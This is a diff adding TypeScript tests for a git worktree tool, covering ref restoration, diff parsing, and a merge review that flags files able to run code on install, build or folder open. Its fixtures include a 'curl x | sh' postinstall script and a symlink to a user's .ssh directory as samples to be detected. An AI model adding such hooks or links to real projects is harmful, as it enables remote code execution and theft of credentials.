@@ -1,0 +1,118 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { decideRefs, parseRefs } from '../../lib/worktree/refs.js';
+import { formatReview, parseRaw, type RawChange, review } from '../../lib/worktree/review.js';
+import { freshName, NAME_PATTERN } from '../../lib/worktree/names.js';
+
+const A = 'a'.repeat(40);
+const B = 'b'.repeat(40);
+const C = 'c'.repeat(40);
+
+test('refs after a run: every case of the spec, the agent branch never judged', () => {
+  const before = new Map([
+    ['refs/heads/main', A], ['refs/heads/release', A], ['refs/heads/dev', A], ['refs/heads/gone', A],
+    ['refs/tags/v1', A], ['refs/tags/v2', A], ['refs/heads/stashbase/x', A], ['refs/heads/same', B],
+  ]);
+  const after = new Map([
+    ['refs/heads/main', B], ['refs/heads/release', B], ['refs/heads/dev', C], ['refs/tags/v2', C],
+    ['refs/heads/stashbase/x', C], ['refs/heads/same', B], ['refs/heads/newb', B], ['refs/tags/t-new', C],
+  ]);
+  // C contains A (a fast-forward); B does not.
+  const decisions = decideRefs({ before, after, own: 'refs/heads/stashbase/x', checkedOut: new Set(['refs/heads/main']), isAncestor: (old, now) => old === A && now === C });
+  assert.deepEqual(decisions, [
+    { kind: 'left-checked-out', ref: 'refs/heads/main', old: A, now: B },
+    { kind: 'reset', ref: 'refs/heads/release', old: A, now: B },
+    { kind: 'kept-new-commits', ref: 'refs/heads/dev', old: A, now: C },
+    { kind: 'restored', ref: 'refs/heads/gone', old: A },
+    { kind: 'restored', ref: 'refs/tags/v1', old: A },
+    // A tag moved, even forward, is rewritten: tags do not grow.
+    { kind: 'reset', ref: 'refs/tags/v2', old: A, now: C },
+    { kind: 'kept-new-ref', ref: 'refs/heads/newb', now: B },
+    { kind: 'kept-new-ref', ref: 'refs/tags/t-new', now: C },
+  ]);
+  assert.deepEqual(decideRefs({ before, after: before, own: 'refs/heads/stashbase/x', checkedOut: new Set(), isAncestor: () => true }), []);
+});
+
+test('for-each-ref output with NUL separators', () => {
+  assert.deepEqual([...parseRefs(`refs/heads/a b\0${A}\nrefs/tags/v1\0${B}\n`)], [['refs/heads/a b', A], ['refs/tags/v1', B]]);
+});
+
+test('worktree names: three readable words, never one taken', () => {
+  const taken = new Set<string>();
+  for (let i = 0; i < 50; i++) {
+    const n = freshName((x) => taken.has(x));
+    assert.match(n, NAME_PATTERN);
+    assert.equal(n.split('-').length, 3);
+    assert.equal(taken.has(n), false);
+    taken.add(n);
+  }
+});
+
+const Z = '0'.repeat(40);
+const ch = (path: string, o: Partial<RawChange> = {}): RawChange => ({ oldMode: '100644', newMode: '100644', oldOid: A, newOid: B, status: 'M', path, ...o });
+
+test('git diff --raw -z is parsed, odd names included', () => {
+  const raw = `:000000 100755 ${Z} ${B} A\0dir/run me.sh\0:100644 100644 ${A} ${B} M\0a\nb\0:120000 000000 ${A} ${Z} D\0link\0`;
+  assert.deepEqual(parseRaw(raw), [
+    { oldMode: '000000', newMode: '100755', oldOid: Z, newOid: B, status: 'A', path: 'dir/run me.sh' },
+    { oldMode: '100644', newMode: '100644', oldOid: A, newOid: B, status: 'M', path: 'a\nb' },
+    { oldMode: '120000', newMode: '000000', oldOid: A, newOid: Z, status: 'D', path: 'link' },
+  ]);
+  assert.deepEqual(parseRaw(''), []);
+});
+
+test('the merge review names what would run on your machine, and nothing else', () => {
+  const blobs: Record<string, string> = {
+    [A]: JSON.stringify({ scripts: { test: 'node t', build: 'tsc' } }),
+    [B]: JSON.stringify({ scripts: { test: 'node t', build: 'tsc -b', postinstall: 'curl x | sh' } }),
+    [C]: '/home/u/.ssh',
+  };
+  const read = (oid: string) => blobs[oid] ?? null;
+  const findings = review([
+    ch('src/index.ts'),
+    ch('README.md', { status: 'A', oldOid: Z, oldMode: '000000' }),
+    ch('.husky/pre-commit', { status: 'A', oldMode: '000000', newMode: '100755', oldOid: Z }),
+    ch('.githooks/pre-push'),
+    ch('.envrc', { status: 'A', oldOid: Z, oldMode: '000000' }),
+    ch('.vscode/tasks.json'),
+    ch('.vscode/launch.json'),
+    ch('.vscode/extensions.json'),
+    ch('package.json'),
+    ch('packages/web/package.json', { newOid: A }),
+    ch('Makefile'),
+    ch('lib/rules.mk'),
+    ch('.github/workflows/ci.yml'),
+    ch('.gitattributes'),
+    ch('.gitmodules'),
+    ch('.npmrc'),
+    ch('build.rs'),
+    ch('setup.py'),
+    ch('.pre-commit-config.yaml'),
+    ch('scripts/deploy.sh', { newMode: '100755' }),
+    ch('key', { status: 'A', oldOid: Z, oldMode: '000000', newMode: '120000', newOid: C }),
+  ], read);
+  assert.deepEqual(findings, [
+    { path: '.envrc', why: 'direnv: runs when you enter the folder; added' },
+    { path: '.gitattributes', why: 'git attributes (filters and diff drivers run git config commands); changed' },
+    { path: '.githooks/pre-push', why: 'git hook (runs when a hooks path points here); changed' },
+    { path: '.github/workflows/ci.yml', why: 'CI configuration; changed' },
+    { path: '.gitmodules', why: 'submodules; changed' },
+    { path: '.husky/pre-commit', why: 'git hook (runs when a hooks path points here); added' },
+    { path: '.husky/pre-commit', why: 'new executable file' },
+    { path: '.npmrc', why: 'package manager configuration; changed' },
+    { path: '.pre-commit-config.yaml', why: 'git hook manager configuration; changed' },
+    { path: '.vscode/launch.json', why: 'editor tasks, launch or settings (may run on open); changed' },
+    { path: '.vscode/tasks.json', why: 'editor tasks, launch or settings (may run on open); changed' },
+    { path: 'Makefile', why: 'build file; changed' },
+    { path: 'build.rs', why: 'runs on build, install or test; changed' },
+    { path: 'key', why: 'symbolic link to "/home/u/.ssh" (new)' },
+    { path: 'lib/rules.mk', why: 'build file; changed' },
+    { path: 'package.json', why: 'scripts changed: build, postinstall (runs on install)' },
+    { path: 'scripts/deploy.sh', why: 'made executable' },
+    { path: 'setup.py', why: 'runs on build, install or test; changed' },
+  ]);
+  assert.equal(
+    formatReview('stashbase/x', [{ path: '.envrc', why: 'direnv: runs when you enter the folder; added' }, { path: '.envrc', why: 'new executable file' }, { path: 'Makefile', why: 'build file; changed' }]),
+    'stashbase/x changes files that can run code on your machine; look at them before merging (git diff HEAD...stashbase/x -- <path>):\n  .envrc    direnv: runs when you enter the folder; added; new executable file\n  Makefile  build file; changed',
+  );
+});
